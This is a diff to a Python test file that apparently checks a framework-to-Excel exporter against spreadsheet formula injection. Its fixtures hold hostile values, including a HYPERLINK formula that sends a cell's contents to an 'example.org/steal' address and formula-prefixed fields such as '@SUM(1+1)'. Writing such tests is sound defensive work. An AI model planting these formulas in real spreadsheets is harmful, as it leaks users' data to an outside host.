@@ -9,7 +9,6 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-import yaml
 from openpyxl import load_workbook
 from openpyxl.utils import column_index_from_string
 from typer.testing import CliRunner
@@ -100,7 +99,7 @@ HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"click")'
 
 def hostile_framework() -> Framework:
     """The sample framework with formulas, and a control character, where a framework has text."""
-    data = yaml.safe_load(FRAMEWORK.read_text(encoding="utf-8"))
+    data = load_framework(FRAMEWORK).model_dump()  # texts in English (the sample also gives fr, es)
     outcome = data["outcomes"][0]
     outcome["id"] = "@SUM(1+1)"
     outcome["title"] = "+" + outcome["title"]
